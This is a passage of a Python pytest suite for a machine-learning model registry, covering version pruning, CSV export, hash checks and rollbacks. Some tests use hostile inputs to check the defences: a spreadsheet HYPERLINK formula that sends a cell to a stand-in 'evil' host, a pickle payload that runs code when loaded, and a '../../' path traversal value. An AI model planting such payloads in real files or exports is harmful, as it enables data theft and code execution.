    (paths.models / registry.MODEL_FILE).write_bytes(b"model in use")
    removed = registry.prune_versions(paths, keep=3, protected=["e"])  # e: the model in use, the oldest
    assert removed == ["d", "c"]
    assert [c["version"] for c in registry.version_cards(paths)] == ["e", "b", "a"]
    assert (paths.models / "being-written").is_dir() and (paths.models / registry.MODEL_FILE).is_file()
    # The limit never beats the version in use or the newest one; 0 keeps every version.
    assert registry.prune_versions(paths, keep=1, protected=["e"]) == ["b"]
    assert registry.prune_versions(paths, keep=0, protected=[]) == []
    assert [c["version"] for c in registry.version_cards(paths)] == ["e", "a"]


def test_prune_versions_leaves_a_folder_it_cannot_remove_for_next_time(paths: config.RunPaths, monkeypatch) -> None:
    import shutil

    for version, test_end in (("old", "2026-03-01"), ("half", "2026-03-02"), ("mid", "2026-03-03"), ("new", "2026-03-04")):
        _fake_card(paths, version, test_end=test_end)
    remove = shutil.rmtree

    def failing_rmtree(path: Path, **kw: object) -> None:
        # "old" as a folder the run's user cannot change: nothing removed, no error raised;
        # "half" loses its card, then fails: no longer a version, so it counts as removed.
        if Path(path).name == "half":
            (Path(path) / registry.CARD_FILE).unlink()
        elif Path(path).name != "old":
            remove(path, **kw)

    monkeypatch.setattr(shutil, "rmtree", failing_rmtree)
    assert registry.prune_versions(paths, keep=1, protected=[]) == ["half", "mid"]
    assert [c["version"] for c in registry.version_cards(paths)] == ["old", "new"]


def test_prune_versions_never_reaches_outside_the_models_folder(paths: config.RunPaths, tmp_path: Path) -> None:
    elsewhere = _fake_card(config.RunPaths(tmp_path / "elsewhere").ensure(), "linked", test_end="2026-03-01")
    (paths.models / "linked").symlink_to(elsewhere, target_is_directory=True)
    # A card naming a version outside models/ removes nothing there: a folder whose card names
    # another version is no version (a copy), left alone like the link.
    traversal = _fake_card(paths, "old", test_end="2026-03-02")
    runlog.write_json(traversal / registry.CARD_FILE, {**runlog.read_json(traversal / registry.CARD_FILE),
                                                       "version": "../../elsewhere"})
    _fake_card(paths, "new", test_end="2026-03-03")
    assert registry.prune_versions(paths, keep=1, protected=[]) == []
    assert (traversal / registry.CARD_FILE).is_file()
    assert (elsewhere / registry.CARD_FILE).is_file() and (paths.models / "linked").is_symlink()
    assert (tmp_path / "elsewhere").is_dir()


def test_register_prunes_old_versions_and_lists_only_those_left(paths: config.RunPaths) -> None:
    keep_two = {**PARAMS, "keep_versions": 2, "promote_tolerance": 1.0}  # every candidate promoted
    decisions = [registry.register(paths, _report(data), data, params=keep_two, degradation=DEGRADATION)
                 for data in (_dataset(n_days=80), _dataset(n_days=85), _dataset(n_days=90))]
    assert len({d["version"] for d in decisions}) == 3
    kept = [d["version"] for d in decisions[1:]]
    assert sorted(p.name for p in paths.models.iterdir() if p.is_dir()) == sorted(kept)
    index = runlog.read_json(paths.models / "registry.json")
    assert [v["version"] for v in index["versions"]] == kept and index["current"] == decisions[-1]["version"]
    assert registry.load_current(paths)[1]["version"] == decisions[-1]["version"]


def test_register_keeps_the_model_in_use_and_a_refused_newest_beyond_the_limit(paths: config.RunPaths) -> None:
    keep_one = {**PARAMS, "keep_versions": 1}
    good = _dataset()
    first = registry.register(paths, _report(good), good, params=keep_one, degradation=DEGRADATION)
    later = _dataset(n_days=90)
    refused = registry.register(paths, _report(_dataset(noisy=True, n_days=90)), later, params=keep_one,
                                degradation=DEGRADATION)
    assert not refused["promoted"]
    assert [c["version"] for c in registry.version_cards(paths)] == [first["version"], refused["version"]]
    assert registry.load_current(paths)[1]["version"] == first["version"]


def test_keep_versions_is_run_only_it_changes_neither_the_version_nor_the_training_settings() -> None:
    assert registry.training_settings({**PARAMS, "keep_versions": 3}, DEGRADATION, signals=SIGNALS) == SETTINGS


def test_write_csv_round_trips_text_with_carriage_returns(tmp_path) -> None:
    """Ids and names come from other teams' files: a bare carriage return in one must not split its row."""
    import csv

    values = ["a\rb", "x\r\ny", "c\nd", 'q"q', "e,f", "plain"]
    frame = pd.DataFrame({"feature_id": values, "risk_probability": [0.1234567] * len(values)})
    path = registry.write_csv(frame, tmp_path / "r.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["feature_id"] for r in rows] == values
    back = pd.read_csv(path, dtype={"feature_id": str}, keep_default_na=False)
    assert back["feature_id"].tolist() == values and back["risk_probability"].tolist() == [0.123457] * len(values)
    plain = registry.write_csv(frame.iloc[-1:], tmp_path / "p.csv").read_text(encoding="utf-8")
    assert plain == "feature_id,risk_probability\nplain,0.123457\n"  # ordinary files keep their look


def test_write_csv_writes_text_a_spreadsheet_would_run_as_a_formula_as_text(tmp_path) -> None:
    """A feature named =HYPERLINK("http://evil/?"&B2,"details") in an export became a live link in the
    stakeholder's spreadsheet, sending the cell beside it away when clicked. Text starting with =, +,
    -, @, a tab or a carriage return is written after a ' (OWASP's advice), which a spreadsheet shows
    as text; numbers, negative ones included, are written as before."""
    names = ['=HYPERLINK("http://evil/?"&B2,"details")', "+1", "-2+3", "@SUM(A1)", "\tx", "'=x", "-", "plain"]
    frame = pd.DataFrame({"feature_name": names, "change": [-1.5] * len(names), "rank": range(-1, len(names) - 1)})
    text = registry.write_csv(frame, tmp_path / "r.csv").read_text(encoding="utf-8")
    assert text.splitlines()[1:4] == ["\"'=HYPERLINK(\"\"http://evil/?\"\"&B2,\"\"details\"\")\",-1.5,-1",
                                      "'+1,-1.5,0", "'-2+3,-1.5,1"]
    back = pd.read_csv(tmp_path / "r.csv", dtype={"feature_name": str}, keep_default_na=False)
    assert [display.csv_text(v) for v in back["feature_name"]] == names
    assert back["change"].tolist() == [-1.5] * len(names) and back["rank"].iloc[0] == -1


def test_write_csv_quotes_formulas_in_string_and_category_columns(tmp_path) -> None:
    # Text columns need not be of object dtype: a formula in pandas' string or category dtype is text too.
    frame = pd.DataFrame({"feature_id": pd.array(["=1+1", "a"], dtype="string"), "bucket": pd.Categorical(["-x", "b"])})
    assert registry.write_csv(frame, tmp_path / "r.csv").read_text(encoding="utf-8").splitlines()[1:] == [
        "'=1+1,'-x", "a,b"]


def test_write_csv_writes_an_empty_frame_with_date_columns(tmp_path) -> None:
    """No incident to judge (one feature, a short test period) leaves the early-warning table empty: its header is written."""
    frame = pd.DataFrame({"feature_id": pd.Series([], dtype=object), "onset": pd.Series([], dtype="datetime64[ns]"),
                          "lead_days": pd.Series([], dtype="float64")})
    path = registry.write_csv(frame, tmp_path / "e.csv")
    assert path.read_text(encoding="utf-8") == "feature_id,onset,lead_days\n"


def test_auto_trains_when_the_model_in_use_needs_a_signal_today_s_data_lacks_even_after_a_refusal(
    paths: config.RunPaths,
) -> None:
    # A refused version with today's signal set once kept auto from training; but the model in use,
    # trained on a signal the input no longer feeds (its metadata gone, say), cannot score today's rows.
    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    later = _dataset(n_days=90)
    refused = registry.register(paths, _report(_dataset(noisy=True, n_days=90)), later, params=PARAMS,
                                degradation=DEGRADATION)
    assert not refused["promoted"]
    grown = later.assign(extra_z=np.linspace(0.0, 1.0, len(later)))
    in_use = registry.register(paths, _report(grown), grown, params={**PARAMS, "promote_tolerance": 1.0},
                               degradation=DEGRADATION)
    assert in_use["promoted"] and "extra_z" in registry.load_current(paths)[0].signals
    decision = registry.decide_training(paths, retrain="auto", settings=SETTINGS)
    assert decision["train"] and "extra_z" in decision["reason"], decision


def test_a_sha256_written_in_capitals_is_still_that_hash(paths: config.RunPaths) -> None:
    # A card edited by hand (or by a tool writing capitals) names the same digest.
    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    card_path = paths.models / registry.CURRENT_CARD
    card = runlog.read_json(card_path)
    runlog.write_json(card_path, {**card, "file_sha256": card["file_sha256"].upper()})
    assert registry.load_current(paths)[1]["version"] == card["version"]


@pytest.mark.parametrize("vouched", [None, 42, ["abc"], ""])
def test_a_card_whose_file_sha256_is_not_a_hash_is_refused_in_a_sentence_and_retraining_replaces_it(
    paths: config.RunPaths, vouched: object
) -> None:
    # A null or numeric file_sha256 failed with "TypeError: 'NoneType' object is not subscriptable",
    # in scoring and in the retraining the message advises.
    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    card_path = paths.models / registry.CURRENT_CARD
    runlog.write_json(card_path, {**runlog.read_json(card_path), "file_sha256": vouched})
    with pytest.raises(registry.ModelIntegrityError, match=r"Refusing to load .*risk_model\.joblib.*file_sha256.*retrain"):
        registry.load_current(paths)
    decision = registry.register(paths, _report(dataset, max_depth=3), dataset, params={**PARAMS, "max_depth": 3},
                                 degradation=DEGRADATION)
    assert decision["promoted"] and "failed its integrity check" in decision["reason"]
    assert registry.load_current(paths)[1]["version"] == decision["version"]


def test_the_bytes_unpickled_are_the_bytes_whose_sha256_was_checked(
    paths: config.RunPaths, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The file was hashed, then opened again by joblib.load: one replaced in between was unpickled unchecked.
    import builtins
    import io
    import pickle

    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    target = paths.models / registry.MODEL_FILE
    marker = tmp_path / "code-ran"

    class Payload:
        def __reduce__(self) -> tuple[object, tuple[object, ...]]:
            return Path.touch, (marker,)

    evil, opened = pickle.dumps(Payload()), []
    real_open = builtins.open

    def swapping_open(file, mode="r", *args, **kwargs):  # noqa: ANN001, ANN202 - stands in for open
        if "r" in str(mode) and Path(str(file)) == target:
            if opened:  # every read after the first sees the file replaced
                with real_open(target, "wb") as handle:
                    handle.write(evil)
            opened.append(mode)
        return real_open(file, mode, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", swapping_open)
    monkeypatch.setattr(io, "open", swapping_open)
    loaded, _card = registry.load_current(paths)
    monkeypatch.undo()
    assert not marker.exists()
    assert isinstance(loaded, model.RiskModel)


def test_an_unreadable_version_card_is_named_in_one_sentence(paths: config.RunPaths) -> None:
    # A damaged models/<version>/card.json stopped 04_drift with a bare JSONDecodeError naming no file.
    _fake_card(paths, "old", test_end="2026-03-01")
    (paths.models / "old" / registry.CARD_FILE).write_text('{"version": "old", trunc', encoding="utf-8")
    with pytest.raises(registry.ModelIntegrityError, match=r"models/old/card\.json.*restore it.*remove the folder") as cut:
        registry.version_cards(paths)
    # It said "(JSONDecodeError: Expecting property name ...)", Python's class name for a cut file.
    assert "models/old/card.json is not valid JSON (Expecting property name" in str(cut.value)
    assert "Error" not in str(cut.value)
    runlog.write_json(paths.models / "old" / registry.CARD_FILE, {"version": "old"})  # valid JSON, no training window
    with pytest.raises(registry.ModelIntegrityError, match=r"models/old/card\.json"):
        registry.version_cards(paths)


def test_never_with_a_model_file_but_no_card_names_the_missing_card_not_a_missing_model(paths: config.RunPaths) -> None:
    # "no model is in use" sent a user whose models/risk_model.joblib was there looking for the wrong problem.
    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    (paths.models / registry.CURRENT_CARD).unlink()
    with pytest.raises(registry.ModelIntegrityError, match=r"risk_model\.card\.json does not exist.*retrain"):
        registry.decide_training(paths, retrain="never", settings=SETTINGS)
    assert registry.decide_training(paths, retrain="auto", settings=SETTINGS)["train"]  # auto replaces it


@pytest.mark.parametrize("pickled", [b"cnumpy._core_gone\nmultiarray\n.", b"cfeaturehealth.model\nGoneClass\n.", b"\x80\x05junk"],
                         ids=["module-gone", "class-gone", "truncated"])
def test_a_vouched_model_that_no_longer_unpickles_is_refused_in_a_sentence_and_retraining_replaces_it(
    paths: config.RunPaths, pickled: bytes
) -> None:
    # A model saved under other library versions (a numpy 2 pickle read by numpy 1, a class renamed since)
    # matches its card but failed with a bare ModuleNotFoundError, in scoring and in the retraining that
    # is the way out.
    import hashlib

    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    (paths.models / registry.MODEL_FILE).write_bytes(pickled)
    card_path = paths.models / registry.CURRENT_CARD
    card = runlog.read_json(card_path)
    saved = {**card["library_versions"], "scikit-learn": "0.0.1"}
    runlog.write_json(card_path, {**card, "file_sha256": hashlib.sha256(pickled).hexdigest(), "library_versions": saved})
    with pytest.raises(registry.ModelIntegrityError,
                       match=r"risk_model\.joblib: it matches its card but cannot be loaded .*scikit-learn 0\.0\.1 \(now .*retrain"):
        registry.load_current(paths)
    decision = registry.register(paths, _report(dataset, max_depth=3), dataset, params={**PARAMS, "max_depth": 3},
                                 degradation=DEGRADATION)
    assert decision["promoted"] and "cannot be loaded" in decision["reason"]
    assert registry.load_current(paths)[1]["version"] == decision["version"]


def test_a_card_in_use_that_is_not_a_json_object_says_how_to_get_out(paths: config.RunPaths) -> None:
    # "... is not a JSON object." named the problem but not the way out that the other card errors give.
    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    (paths.models / registry.CURRENT_CARD).write_text("[]", encoding="utf-8")
    with pytest.raises(registry.ModelIntegrityError, match=r"not a JSON object; restore it or retrain with model\.retrain=always"):
        registry.decide_training(paths, retrain="auto", settings=SETTINGS)
    assert registry.decide_training(paths, retrain="always", settings=SETTINGS)["train"]
    decision = registry.register(paths, _report(dataset, max_depth=3), dataset, params={**PARAMS, "max_depth": 3},
                                 degradation=DEGRADATION)
    assert decision["promoted"] and registry.load_current(paths)[1]["version"] == decision["version"]


class _FailingModel:
    """A model in use that cannot score, as a pickle made under another scikit-learn version fails."""

    def __init__(self, error: Exception, signals: list[str]) -> None:
        self.error, self.signals = error, signals

    def predict_proba(self, frame: pd.DataFrame) -> np.ndarray:
        raise self.error


@pytest.mark.parametrize("error", [AttributeError("'DecisionTreeClassifier' object has no attribute 'monotonic_cst'"),
                                   TypeError("unsupported operand")])
def test_a_model_in_use_that_fails_to_score_is_replaced_with_the_exception_and_library_versions(
    paths: config.RunPaths, monkeypatch: pytest.MonkeyPatch, error: Exception
) -> None:
    dataset = _dataset()
    report = _report(dataset)
    old = {**registry.library_versions(), "scikit-learn": "0.0.1"}
    card = {"version": "old", "horizon_days": PARAMS["horizon_days"], "training_window": {"end": "2026-01-10"},
            "library_versions": old}
    current = _FailingModel(error, list(report.result.model.signals))
    monkeypatch.setattr(registry, "has_current", lambda _: True)
    monkeypatch.setattr(registry, "load_current", lambda _: (current, card))
    decision = registry.register(paths, report, dataset, params=PARAMS, degradation=DEGRADATION)
    now = registry.library_versions()["scikit-learn"]
    assert decision["promoted"] and not decision["comparison"]["comparable"]
    assert decision["reason"] == (
        f"promoted: the model in use failed to score ({type(error).__name__}: {error}; it was saved with "
        f"scikit-learn 0.0.1 (now {now})), so there is nothing to compare against."
    )
    # A card that records no versions, or this environment's, says so.
    split = report.result.split
    compare = {"test_start": split.test_start, "test_end": split.test_end, "horizon_days": PARAMS["horizon_days"],
               "min_positives": 1, "seed": 7}
    bare = registry.compare_on_holdout(report.result.model, (current, {**card, "library_versions": None}), dataset,
                                       **compare)
    assert "its card records no library versions (here: python " in bare["reason"]
    same = registry.compare_on_holdout(
        report.result.model, (current, {**card, "library_versions": registry.library_versions()}), dataset, **compare
    )
    assert f"its card's library versions are this environment's (python {registry.library_versions()['python']}" in same["reason"]


def test_a_model_in_use_that_scores_is_compared_and_a_value_error_keeps_its_reason(paths: config.RunPaths) -> None:
    dataset = _dataset()
    report = _report(dataset)
    split = report.result.split
    compare = {"test_start": split.test_start, "test_end": split.test_end, "horizon_days": PARAMS["horizon_days"],
               "min_positives": 1, "seed": 7}
    card = {"horizon_days": PARAMS["horizon_days"], "training_window": {"end": "2026-01-10"}}
    scored = registry.compare_on_holdout(report.result.model, (report.result.model, card), dataset, **compare)
    assert scored["comparable"] and scored["candidate_pr_auc"] == scored["current_pr_auc"]
    wrong = _FailingModel(ValueError("X has 4 features"), list(report.result.model.signals))
    assert registry.compare_on_holdout(report.result.model, (wrong, card), dataset, **compare) == {
        "comparable": False, "reason": "the model in use cannot score today's signals (X has 4 features)"}
    # However few the positives, a model in use that cannot score says so: that is what to fix.
    assert registry.compare_on_holdout(report.result.model, (wrong, card), dataset,
                                       **{**compare, "min_positives": 10**6})["reason"].startswith("the model in use cannot")


def test_no_held_out_day_unseen_by_both_models_is_said_with_both_windows_not_as_a_missing_class() -> None:
    dataset = _dataset()
    report = _report(dataset)
    split = report.result.split
    compare = {"test_start": split.test_start, "test_end": split.test_end, "horizon_days": PARAMS["horizon_days"],
               "min_positives": 1, "seed": 7}
    # The model in use was trained up to the candidate's last test day: it has seen every held-out day.
    card = {"horizon_days": PARAMS["horizon_days"],
            "training_window": {"start": "2026-01-01", "end": split.test_end.date().isoformat()}}
    reason = registry.compare_on_holdout(report.result.model, (report.result.model, card), dataset, **compare)["reason"]
    seen = (split.test_end + pd.Timedelta(days=PARAMS["horizon_days"])).date()
    assert reason == (
        f"no held-out day is unseen by both models: the model in use, trained on 2026-01-01 .. "
        f"{split.test_end.date()}, has seen the labels up to {seen}, which covers the candidate's test days "
        f"{split.test_start.date()} .. {split.test_end.date()}"
    )
    _, sentence = registry.promotion_decision({"comparable": False, "reason": reason}, tolerance=0.01)
    assert _sentences(sentence) == 1


def test_held_out_days_unseen_by_both_models_of_one_class_say_how_many_and_which() -> None:
    dataset = _dataset()
    report = _report(dataset)
    split = report.result.split
    compare = {"test_start": split.test_start, "test_end": split.test_end, "horizon_days": PARAMS["horizon_days"],
               "min_positives": 1, "seed": 7}
    last = dataset["date"] == split.test_end
    calm = dataset.assign(target=np.where(last, 0.0, dataset["target"]))
    day_before = split.test_end - pd.Timedelta(days=PARAMS["horizon_days"] + 1)
    card = {"horizon_days": PARAMS["horizon_days"], "training_window": {"end": day_before.date().isoformat()}}
    reason = registry.compare_on_holdout(report.result.model, (report.result.model, card), calm, **compare)["reason"]
    assert reason == (
        f"the 4 held-out feature-days unseen by both models ({split.test_end.date()} .. {split.test_end.date()}) "
        f"are all negative, and PR-AUC needs both classes"
    )


def _two_versions(paths: config.RunPaths) -> tuple[dict[str, object], dict[str, object]]:
    """Version A (the profile's settings), then B (max_depth 4) promoted over it whatever its PR-AUC."""
    dataset = _dataset()
    first = registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    deeper = {**PARAMS, "max_depth": 4, "promote_tolerance": 1.0}
    second = registry.register(paths, _report(dataset, max_depth=4), dataset, params=deeper, degradation=DEGRADATION)
    assert second["promoted"] and second["version"] != first["version"]
    return first, second


def test_use_version_puts_an_earlier_version_back_in_use_by_hand(paths: config.RunPaths) -> None:
    first, second = _two_versions(paths)
    earlier = runlog.read_json(paths.models / first["version"] / registry.PROMOTION_FILE)
    plan = registry.decide_training(paths, retrain="always", settings=SETTINGS, use_version=first["version"])
    assert not plan["train"] and plan["reason"].startswith(f"model.use_version is {first['version']}: nothing is trained")
    decision = registry.put_in_use(paths, first["version"])
    assert decision["run_id"] is None  # by hand outside a run: no run folder to name
    assert decision["promoted"] and decision["by_hand"] and decision["previous_version"] == second["version"]
    assert decision["reason"].startswith(f"put in use by hand with model.use_version, replacing {second['version']}, at ")
    assert decision["earlier"] == earlier  # the decision it was given when trained stays on record
    assert registry.load_current(paths)[1]["version"] == first["version"]
    assert runlog.read_json(paths.models / first["version"] / registry.PROMOTION_FILE) == decision
    assert runlog.read_json(paths.reports / registry.PROMOTION_FILE) == decision
    index = runlog.read_json(paths.models / "registry.json")
    assert index["current"] == first["version"] and len(index["versions"]) == 2
    listed = next(v for v in index["versions"] if v["version"] == first["version"])
    # The index lists the decision when trained, and apart from it the rollback (the Model tab's
    # "promotion when trained" showed "put in use by hand ..." instead).
    assert (listed["promoted"], listed["promotion_reason"]) == (first["promoted"], first["reason"])
    assert listed["put_in_use_by_hand"] == {"at": decision["at"], "previous_version": second["version"], "run_id": None}
    assert next(v for v in index["versions"] if v["version"] == second["version"])["put_in_use_by_hand"] is None
    # Already in use: nothing is rewritten, so a run that leaves the option set keeps the record of the rollback.
    again = registry.put_in_use(paths, first["version"])
    assert not again["by_hand"] and again["reason"] == f"{first['version']} is already in use (model.use_version)."
    assert runlog.read_json(paths.models / first["version"] / registry.PROMOTION_FILE) == decision


def test_use_version_of_a_version_whose_card_predates_signal_definitions_says_they_could_not_be_checked(
    paths: config.RunPaths,
) -> None:
    # A rollback to a model an older featurehealth trained scored on this code's signals without a word.
    first, second = _two_versions(paths)
    card_path = paths.models / first["version"] / registry.CARD_FILE
    card = runlog.read_json(card_path)
    del card["signal_definitions"]
    runlog.write_json(card_path, card)
    unchecked = ("; its card does not record the signal definitions it was trained with (an older featurehealth "
                 "wrote it), so whether this run computes its signals as its training did could not be checked.")
    decision = registry.put_in_use(paths, first["version"])
    assert decision["reason"].startswith(f"put in use by hand with model.use_version, replacing {second['version']}")
    assert decision["reason"].endswith(unchecked)
    assert registry.put_in_use(paths, first["version"])["reason"] == (
        f"{first['version']} is already in use (model.use_version){unchecked}")
    # A card that records them says nothing of it.
    back = registry.put_in_use(paths, second["version"])
    assert back["reason"].endswith(f", at {back['at']}.")


def test_a_version_put_in_use_by_hand_twice_is_listed_with_the_decision_it_was_given_when_trained(
    paths: config.RunPaths,
) -> None:
    # The second rollback's "earlier" is the first rollback's record, which holds the decision when trained.
    first, second = _two_versions(paths)
    registry.put_in_use(paths, first["version"])
    registry.put_in_use(paths, second["version"])
    again = registry.put_in_use(paths, first["version"])
    assert again["earlier"]["by_hand"]
    listed = {v["version"]: v for v in runlog.read_json(paths.models / "registry.json")["versions"]}
    assert [listed[d["version"]]["promotion_reason"] for d in (first, second)] == [first["reason"], second["reason"]]
    assert listed[first["version"]]["put_in_use_by_hand"]["at"] == again["at"]
    assert listed[second["version"]]["put_in_use_by_hand"]["previous_version"] == first["version"]


def test_auto_does_not_retrain_the_settings_a_rollback_set_aside(paths: config.RunPaths) -> None:
    first, second = _two_versions(paths)
    registry.put_in_use(paths, first["version"])
    profile = registry.training_settings({**PARAMS, "max_depth": 4}, DEGRADATION, signals=SIGNALS)  # B's settings
    decision = registry.decide_training(paths, retrain="auto", settings=profile)
    assert not decision["train"]
    assert f"version {second['version']} has these settings but model {first['version']} was put in use by hand" \
        in decision["reason"]
    assert registry.decide_training(paths, retrain="always", settings=profile)["train"]
    # Settings no version on disk has train as usual.
    other = registry.training_settings({**PARAMS, "max_depth": 3}, DEGRADATION, signals=SIGNALS)
    assert registry.decide_training(paths, retrain="auto", settings=other)["train"]


def test_use_version_of_a_version_not_on_disk_lists_those_that_are(paths: config.RunPaths) -> None:
    with pytest.raises(ValueError, match=r"^model\.use_version '20260101-abc' is not a model version on disk; no "
                                         r"version is under models/ yet, so set it to null\.$"):
        registry.put_in_use(paths, "20260101-abc")
    first, second = _two_versions(paths)
    with pytest.raises(ValueError) as unknown:
        registry.put_in_use(paths, "20260101-abc")
    assert str(unknown.value) == (
        f"model.use_version '20260101-abc' is not a model version on disk; use one of {first['version']}, "
        f"{second['version']} (models/registry.json lists them), or null to let model.retrain decide.")
    assert registry.load_current(paths)[1]["version"] == second["version"]


def test_use_version_refuses_a_tampered_version_and_keeps_the_model_in_use(paths: config.RunPaths) -> None:
    first, second = _two_versions(paths)
    target = paths.models / first["version"] / registry.MODEL_FILE
    target.write_bytes(target.read_bytes() + b"\x00")
    with pytest.raises(registry.ModelIntegrityError, match="does not match") as tampered:
        registry.put_in_use(paths, first["version"])
    assert _sentences(str(tampered.value)) == 1
    # Retraining would not give this version back: the way out is the file or another version.
    assert "retrain" not in str(tampered.value)
    assert f"restore the file or name another version ({second['version']}" in str(tampered.value)
    assert registry.load_current(paths)[1]["version"] == second["version"]
    assert runlog.read_json(paths.models / "registry.json")["current"] == second["version"]
    assert not (paths.reports / registry.PROMOTION_FILE).exists() or \
        runlog.read_json(paths.reports / registry.PROMOTION_FILE)["version"] == second["version"]


def test_use_version_is_run_only_it_changes_neither_the_version_nor_the_training_settings() -> None:
    assert registry.training_settings({**PARAMS, "use_version": "20260101-abc"}, DEGRADATION, signals=SIGNALS) == SETTINGS


@pytest.mark.parametrize(("key", "value"), [
    ("version", None), ("version", 5), ("training_window", None), ("training_window", "2026-03-13"),
    ("training_window", {"start": "2026-01-01"}), ("training_window", {"start": "2026-01-01", "end": 20260313}),
    ("test_window", None), ("horizon_days", None), ("horizon_days", "7"),
], ids=lambda v: repr(v))
def test_a_card_in_use_lacking_what_is_read_off_it_names_the_card_and_retraining_replaces_it(
    paths: config.RunPaths, key: str, value: object
) -> None:
    # A card in use without a version failed decide_training with "TypeError: unsupported operand
    # type(s) for /: 'PosixPath' and 'NoneType'", one without a training window end with a bare
    # KeyError in scoring, one without horizon_days was "promoted: the model in use predicts a None-day horizon".
    first, second = _two_versions(paths)
    registry.put_in_use(paths, first["version"])
    card_path = paths.models / registry.CURRENT_CARD
    card = runlog.read_json(card_path)
    runlog.write_json(card_path, {k: v for k, v in card.items() if k != key} if value is None else {**card, key: value})
    profile = registry.training_settings({**PARAMS, "max_depth": 4}, DEGRADATION, signals=SIGNALS)  # B's settings
    for refused in (lambda: registry.decide_training(paths, retrain="auto", settings=profile),
                    lambda: registry.load_current(paths)):
        with pytest.raises(registry.ModelIntegrityError) as error:
            refused()
        message = str(error.value)
        assert message.startswith(f"The card {card_path} of the model in use has no valid {key}")
        assert "restore it or retrain with model.retrain=always, which replaces it" in message
        assert _sentences(message) == 1
    dataset = _dataset()
    decision = registry.register(paths, _report(dataset, max_depth=3), dataset, params={**PARAMS, "max_depth": 3},
                                 degradation=DEGRADATION)
    assert decision["promoted"] and "failed its integrity check" in decision["reason"]
    assert registry.load_current(paths)[1]["version"] == decision["version"]


@pytest.mark.parametrize(("key", "value"), [("horizon_days", "7"), ("horizon_days", 0), ("horizon_days", True),
                                            ("version", ""), ("test_window", {"start": "2026-02-09"}),
                                            ("training_window", {"end": "13 March"})], ids=lambda v: repr(v))
def test_a_version_card_lacking_what_is_read_off_it_is_named_with_the_key(
    paths: config.RunPaths, key: str, value: object
) -> None:
    # A version card whose horizon is text sorted as the oldest version (pruned first), one whose
    # training end was not a date failed later with "Invalid isoformat string" or a TypeError.
    folder = _fake_card(paths, "old", test_end="2026-03-01")
    runlog.write_json(folder / registry.CARD_FILE, {**runlog.read_json(folder / registry.CARD_FILE), key: value})
    with pytest.raises(registry.ModelIntegrityError, match=rf"models/old/card\.json has no valid {key}"):
        registry.version_cards(paths)


def test_a_version_card_without_metrics_is_listed_without_its_pr_auc(paths: config.RunPaths) -> None:
    # registry.json quotes each version's PR-AUC, for show: a card that lost it failed the training run with KeyError 'metrics'.
    first, second = _two_versions(paths)
    card_path = paths.models / first["version"] / registry.CARD_FILE
    runlog.write_json(card_path, {k: v for k, v in runlog.read_json(card_path).items() if k != "metrics"})
    registry.put_in_use(paths, first["version"])
    listed = {v["version"]: v["pr_auc"] for v in runlog.read_json(paths.models / "registry.json")["versions"]}
    assert listed[first["version"]] is None and listed[second["version"]] is not None


@pytest.mark.parametrize("stray", ["backup", "copy of a version", ".DS_Store"])
def test_a_copy_of_a_version_under_another_name_is_no_version_listed_offered_or_pruned(
    paths: config.RunPaths, stray: str
) -> None:
    # An operator's models/backup/, a copy of a version folder, was listed in registry.json as a second
    # copy of that version, offered to model.use_version and could be pruned as the oldest version.
    import shutil

    first, second = _two_versions(paths)
    shutil.copytree(paths.models / first["version"], paths.models / stray)
    assert [c["version"] for c in registry.version_cards(paths)] == [first["version"], second["version"]]
    with pytest.raises(ValueError, match=rf"use one of {first['version']}, {second['version']} \("):
        registry.put_in_use(paths, "20260101-0123456789ab")
    assert registry.prune_versions(paths, keep=1, protected=[]) == [first["version"]]
    assert (paths.models / stray / registry.CARD_FILE).is_file()


def test_a_version_folder_whose_card_names_another_version_is_named_in_one_sentence(paths: config.RunPaths) -> None:
    # A card copied into the wrong version's folder made that version vanish from the listing.
    first, second = _two_versions(paths)
    (paths.models / first["version"] / registry.CARD_FILE).write_bytes(
        (paths.models / second["version"] / registry.CARD_FILE).read_bytes())
    with pytest.raises(registry.ModelIntegrityError) as error:
        registry.version_cards(paths)
    assert f"models/{first['version']}/card.json names version {second['version']}" in str(error.value)
    assert _sentences(str(error.value)) == 1


def test_retraining_a_version_once_put_in_use_by_hand_keeps_the_record_of_the_rollback(paths: config.RunPaths) -> None:
    # Its promotion.json was overwritten by the new decision: the record of the rollback was lost.
    first, second = _two_versions(paths)
    rollback = registry.put_in_use(paths, first["version"])
    registry.put_in_use(paths, second["version"])
    dataset = _dataset()
    again = registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    assert again["version"] == first["version"]
    kept = runlog.read_json(paths.models / first["version"] / registry.PROMOTION_FILE)
    assert kept["reason"] == again["reason"] and kept["earlier"] == rollback
    listed = {v["version"]: v for v in runlog.read_json(paths.models / "registry.json")["versions"]}
    assert listed[first["version"]]["promotion_reason"] == again["reason"]
    assert listed[first["version"]]["put_in_use_by_hand"] == {
        "at": rollback["at"], "previous_version": second["version"], "run_id": None}


def test_use_version_of_a_version_without_its_model_file_says_to_restore_it_or_name_another(
    paths: config.RunPaths,
) -> None:
    # "does not exist; train one with model.retrain=always" sent the user to retrain, which gives no
    # version back by hand.
    first, second = _two_versions(paths)
    (paths.models / first["version"] / registry.MODEL_FILE).unlink()
    with pytest.raises(FileNotFoundError) as missing:
        registry.put_in_use(paths, first["version"])
    message = str(missing.value)
    assert f"{first['version']}/risk_model.joblib does not exist" in message and "retrain" not in message
    assert f"restore the file or name another version ({second['version']})" in message and _sentences(message) == 1
    assert registry.load_current(paths)[1]["version"] == second["version"]


@pytest.mark.parametrize("damage", ['{"by_hand": tr', "[]"], ids=["truncated", "not-an-object"])
def test_a_damaged_promotion_record_of_the_model_in_use_is_named_not_taken_for_no_rollback(
    paths: config.RunPaths, damage: str
